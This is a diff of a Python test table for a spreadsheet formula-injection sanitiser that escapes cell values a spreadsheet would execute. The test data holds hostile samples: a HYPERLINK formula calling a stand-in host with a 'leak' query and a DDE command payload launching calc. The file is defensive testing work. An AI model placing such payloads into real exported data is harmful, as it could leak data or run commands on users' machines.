@@ -22,8 +22,8 @@ PLANTED = '=HYPERLINK("http://x.example/?leak","Xem")'
     ("value", "safe"),
     [
         (PLANTED, "'" + PLANTED), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
-        ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-5", "-5"), ("+84 912 345 678", "+84 912 345 678"),
-        ("Mật ong", "Mật ong"), ("", ""),
+        ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-5", "-5"),
+        ("+84 912 345 678", "+84 912 345 678"), ("Mật ong", "Mật ong"), ("", ""),
     ],
 )  # fmt: skip
 def test_formula_safe_neutralises_what_a_spreadsheet_would_run(value, safe):
